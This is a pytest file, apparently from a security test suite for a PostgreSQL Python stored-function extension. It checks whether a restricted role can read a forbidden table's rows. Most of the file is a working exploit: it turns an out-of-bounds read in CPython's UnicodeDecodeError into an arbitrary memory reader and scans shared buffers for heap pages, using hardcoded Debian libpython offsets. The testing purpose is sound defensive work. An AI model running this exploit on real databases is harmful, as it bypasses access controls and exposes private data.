"""Round 81, continued: the read of gh-123378 (`str(UnicodeDecodeError(..., start < 0))`,
see test_red81_unicode_error.py) taken from an anchor in libpython's own data: the bytes
singletons (`bytes([65])`) live in libpython's writable segment, which the loader mapped
just above PostgreSQL's shared memory (the preload loads libpython in the postmaster
before shared memory is made). So a routine reads shared buffers: pages of tables its
caller may not read.

Promise attacked: no way out of pure computation (1); PostgreSQL's privileges hold for a
routine's caller (Security model: at run time a routine has the caller's rights). The
addresses of the shared memory mapping are read here by the superuser from
/proc/self/maps, standing in for what an attacker computes from the same distribution's
layout (libpython's base is `id(bytes([65]))` minus a constant of the package). A passing
test: the promise held."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import psycopg
import pytest

from pyfuncs import deploy as deploying
from pyfuncs.embedded import Cluster

from .conftest import mallory_dsn, timed

MODULE = '''
from pyfuncs import stored_function

_A = bytes([65])  # a singleton in libpython's data segment


def _byte(addr: int) -> int:
    off = addr - (id(_A) + 32)
    text = str(UnicodeDecodeError("utf-8", _A, off, off + 1, "r"))
    return int(text.split("byte 0x")[1][:2], 16)


def _u16(addr: int) -> int:
    return _byte(addr) | _byte(addr + 1) << 8


@stored_function(schema="r81s", timeout_ms=30000)
def shm_scan(lo: int, hi: int, marker: str) -> str:
    """Finds heap pages in [lo, hi) (8 kB blocks, 128-byte aligned: pd_pagesize_version
    0x2004 at offset 18) holding one tuple, and returns that tuple's text if it starts
    with `marker`."""
    m = marker.encode()
    align = -1
    p = lo
    while p < hi - 8192 and align < 0:
        if _byte(p + 18) == 0x04 and _byte(p + 19) == 0x20 and _u16(p + 16) == 8192:
            align = p
        p += 128
    if align < 0:
        return "no page"
    page = align % 8192 + (lo // 8192) * 8192
    while page < hi - 8192:
        if _byte(page + 19) == 0x20 and _byte(page + 18) == 0x04 and _u16(page + 12) == 28:
            lp = _byte(page + 24) | _byte(page + 25) << 8 | _byte(page + 26) << 16
            off = lp & 0x7FFF
            if 24 < off < 8192:
                t = page + off
                data = t + _byte(t + 22) + 1  # t_hoff, then a short varlena header
                got = bytes([_byte(data + k) for k in range(len(m))])
                if got == m:
                    return bytes([_byte(data + k) for k in range(len(m) + 24)]).decode(
                        "ascii", "replace")
        page += 8192
    return "not found"


@stored_function(schema="r81s", timeout_ms=30000)
def shm_scan_alone(marker: str) -> str:
    """The same, with the range computed from libpython's base alone: the singleton's
    offset in Debian's libpython3.11.so.1.0 (0x73a620), the 2 MB below libpython's
    2 MB-aligned mapping left unmapped, and 288 MB of shared memory under that (256 MB of
    shared_buffers and the rest)."""
    base = id(_A) - 0x73A620
    hi = base - 0x200000
    return shm_scan(hi - 0x12000000, hi, marker)
'''

MAPS = """
CREATE EXTENSION IF NOT EXISTS plpython3u;
CREATE OR REPLACE FUNCTION public.r81_shm() RETURNS bigint[] LANGUAGE plpython3u AS $$
for line in open("/proc/self/maps"):
    if "/dev/zero" in line or "SYSV" in line:
        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
        if hi - lo > 64 << 20:
            return [lo, hi]
return None
$$;
REVOKE ALL ON FUNCTION public.r81_shm() FROM PUBLIC;
DROP TABLE IF EXISTS public.r81_private;
CREATE TABLE public.r81_private (secret text);
INSERT INTO public.r81_private VALUES ('R81PRIVATE:salary=987654;pw=hunter2');
REVOKE ALL ON public.r81_private FROM PUBLIC;
"""


@pytest.fixture
def r81s(dsn: str, conn: psycopg.Connection[Any], cluster: Cluster, tmp_path: Path,
         mallory_role: str) -> Any:  # fmt: skip
    (tmp_path / "r81s_mod.py").write_text(MODULE)
    deploying.deploy(conn, str(tmp_path / "r81s_mod.py"))
    conn.execute("GRANT USAGE ON SCHEMA r81s TO mallory")
    conn.execute("GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA r81s TO mallory")
    conn.execute(MAPS)
    conn.commit()
    postmaster = cluster.postmaster_pid()
    yield dsn
    assert cluster.postmaster_pid() == postmaster, "the cluster restarted"


def test_a_routine_cannot_read_a_table_its_caller_may_not_through_shared_buffers(
    r81s: str, conn: psycopg.Connection[Any]
) -> None:
    """The superuser reads its private table (its page is now in shared buffers); mallory,
    who may not SELECT it, calls a routine that walks shared memory's 8 kB pages through
    the out-of-bounds read and returns the row."""
    conn.autocommit = True
    assert conn.execute("SELECT secret FROM public.r81_private").fetchone()
    lo, hi = conn.execute("SELECT public.r81_shm()").fetchone()[0]
    with psycopg.connect(mallory_dsn(r81s), autocommit=True) as c:
        denied, _ = timed(c, "SELECT secret FROM public.r81_private")
        assert isinstance(denied, psycopg.Error) and denied.sqlstate == "42501"
        got, took = timed(c, "SELECT r81s.shm_scan(%s, %s, 'R81PRIVATE:')", [lo, hi])
        print(got, took)
        leaked = not isinstance(got, psycopg.Error) and "hunter2" in got[0]
        assert not leaked, f"mallory read a table it may not: {got!r} ({took:.1f} s)"


def test_the_same_with_no_address_from_the_superuser(
    r81s: str, conn: psycopg.Connection[Any]
) -> None:
    """As above, the routine computing where shared memory is from id(bytes([65])) and the
    distribution's library layout only: mallory's call, in a session of its own, returns
    the superuser's row."""
    conn.autocommit = True
    assert conn.execute("SELECT secret FROM public.r81_private").fetchone()
    with psycopg.connect(mallory_dsn(r81s), autocommit=True) as c:
        got, took = timed(c, "SELECT r81s.shm_scan_alone('R81PRIVATE:')")
        print(got, took)
        leaked = not isinstance(got, psycopg.Error) and "hunter2" in got[0]
        assert not leaked, f"mallory read a table it may not: {got!r} ({took:.1f} s)"
